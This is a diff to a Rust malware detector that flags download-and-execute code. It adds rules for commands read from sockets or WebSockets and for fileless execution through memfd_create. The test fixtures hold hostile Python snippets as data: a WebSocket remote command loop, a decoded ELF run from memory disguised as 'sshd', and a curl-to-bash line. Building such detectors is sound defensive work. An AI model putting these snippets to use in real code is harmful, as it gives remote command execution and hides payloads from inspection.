@@ -11,9 +11,11 @@
 //! `Popen([p])`, or `Popen([fetch(u)])`), by any interpreter (`java -jar`, `node`, `perl`…);
 //! a decoded payload written to a path that is then run (decode, write, run); a command read
 //! from a response and run (`job = requests.get(u).json()` then `getoutput(job['cmd'])`: a
-//! remote command loop); a shell running a fetch's output by command substitution (`bash -c
-//! "$(curl …)"`). Command strings shown to a person (help text, `print`, log lines, judged
-//! from where the literal opens, so a help or epilog text spanning lines too) are not
+//! remote command loop; also a command read from a socket or WebSocket, `cmd = ws.recv()`); a
+//! shell running a fetch's output by command substitution (`bash -c "$(curl …)"`); an in-memory
+//! file (`memfd_create`) run through `/proc/self/fd` or `fexecve` (fileless execution). Command
+//! strings shown to a person (help text, `print`, log lines, judged from where the literal
+//! opens, so a help or epilog text spanning lines too) are not
 //! commands.
 //!
 //! Python code only for calls; strings for one-liners. Never skipped (this is the
@@ -33,7 +35,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.download-and-execute",
-    revision: 4,
+    revision: 5,
     title: "Downloads and executes code.",
     category: Category::Execution,
     severity: Severity::Critical,
@@ -191,6 +193,9 @@ impl Detector for DownloadExecute {
             "Start-BitsTransfer",
             "download_file",
             "download_url_to_file",
+            // A command read from a connection ([`FETCHED_NAME`]); an in-memory executable ([`FILELESS`]).
+            ".recv(",
+            "memfd_create",
             // Decode, write, run ([`DECODED_WRITE`]).
             "b64decode",
             "b85decode",
@@ -332,6 +337,9 @@ impl Detector for DownloadExecute {
         }
         saved_then_run(file, &runs, &reported, &mut |off, ind| push(hits, off, &ind));
         fetched_command_run(file, &runs, &mut |off, ind| push(hits, off, &ind));
+        for off in fileless_runs(file, &runs) {
+            push(hits, off, "in-memory executable (memfd_create) run");
+        }
     }
 }
 
@@ -514,9 +522,10 @@ fn saved_then_run(
 }
 
 /// A name assigned from a network read: `job = requests.get(u).json()`, `cmd = urlopen(u)
-/// .read().decode()`, `cmd = session.get(u).text`.
+/// .read().decode()`, `cmd = session.get(u).text`, or from a connection (`cmd = ws.recv()`,
+/// `cmd = s.recv(1024).decode()`: a socket or WebSocket the other end writes commands into).
 static FETCHED_NAME: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=[^=\n][^\n]*?(?P<f>(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.(?:get|post|request)|httpx\.(?:get|post)|\w+\.get|\w+\.post)\s*\([^\n]*\)\s*\.(?:text|content|json\s*\(|read\s*\()|(?-u:\b)(?:urllib\.request\.urlopen|urlopen)\s*\()")
+    Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=[^=\n][^\n]*?(?P<f>(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.(?:get|post|request)|httpx\.(?:get|post)|\w+\.get|\w+\.post)\s*\([^\n]*\)\s*\.(?:text|content|json\s*\(|read\s*\()|(?-u:\b)(?:urllib\.request\.urlopen|urlopen)\s*\(|(?-u:\b)\w+\.recv\s*\()")
         .expect("fetched name")
 });
 
@@ -561,6 +570,28 @@ fn fetched_command_run(file: &TextFile<'_>, runs: &[(usize, String)], push: &mut
             push(*off, format!("fetched command {v} then {name}"));
         }
     }
+}
+
+/// `memfd_create`: an anonymous file that lives only in memory.
+static FILELESS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)memfd_create\s*\(").expect("memfd"));
+
+/// Fileless execution: an anonymous in-memory file (`memfd_create`) that the same file runs
+/// through `/proc/self/fd/<n>` or `fexecve` (`os.execve('/proc/self/fd/%d' % fd, …)`,
+/// `subprocess.Popen([f'/proc/self/fd/{fd}'])`). What is written into it is never on disk
+/// for anyone to see: droppers use it to run a decoded or downloaded binary. Offsets of the runs.
+fn fileless_runs(file: &TextFile<'_>, runs: &[(usize, String)]) -> Vec<usize> {
+    let (src, t) = (file.source(), file.text);
+    let Some(created) = FILELESS.find_iter(t).map(|m| m.start()).find(|&o| src.is_code(o)) else {
+        return Vec::new();
+    };
+    let by_fd = |off: usize| {
+        let open = t[off..].find('(').map_or(t.len(), |p| off + p + 1);
+        let arg = pysrc::call_argument(t, open, 400);
+        arg.contains("/proc/self/fd") || arg.contains("/dev/fd/")
+    };
+    let mut out: Vec<usize> = runs.iter().filter(|(off, _)| *off > created && by_fd(*off)).map(|(o, _)| *o).collect();
+    out.extend(t.match_indices("fexecve(").map(|(o, _)| o).filter(|&o| o > created && src.is_code(o)));
+    out
 }
 
 /// A fetch whose output a shell runs through command substitution: `bash -c "$(curl -fsSL u)"`,
@@ -856,6 +887,34 @@ SCRIPT = \"\"\"\n    set -e\n    curl -fsSL https://example.org/stage.sh | bash\
                     Runtime,
                     "cmd = urllib.request.urlopen(U).read().decode()\nsubprocess.run(['sh', '-c', cmd])\n",
                     Some((2, "fetched command cmd then subprocess.run", Critical)),
+                ),
+                (
+                    "a command read from a WebSocket and run through the shell, in a thread",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def _loop():\n    ws = websocket.create_connection(U)\n    while True:\n        cmd = ws.recv()\n        ws.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n",
+                    Some((5, "fetched command cmd then subprocess.run", Critical)),
+                ),
+                (
+                    "bytes read from a socket fed to a decompressor's stdin (not a command)",
+                    "pkg/stream.py",
+                    Runtime,
+                    "def pump(sock):\n    data = sock.recv(65536)\n    return subprocess.run(['gzip', '-dc'], input=data, capture_output=True).stdout\n",
+                    None,
+                ),
+                (
+                    "a decoded ELF written to a memfd and exec'd through /proc/self/fd",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "fd = os.memfd_create('', 1)\nos.write(fd, zlib.decompress(base64.b64decode(B)))\nos.execve('/proc/self/fd/%d' % fd, ['sshd'], os.environ.copy())\n",
+                    Some((3, "in-memory executable (memfd_create) run", Critical)),
+                ),
+                (
+                    "a memfd used as a scratch buffer, a fixed program run (not the memfd)",
+                    "pkg/buf.py",
+                    Runtime,
+                    "fd = os.memfd_create('scratch')\nos.write(fd, data)\nsubprocess.run(['sync'])\n",
+                    None,
                 ),
                 (
                     "a fetched version passed as an argument to pip",
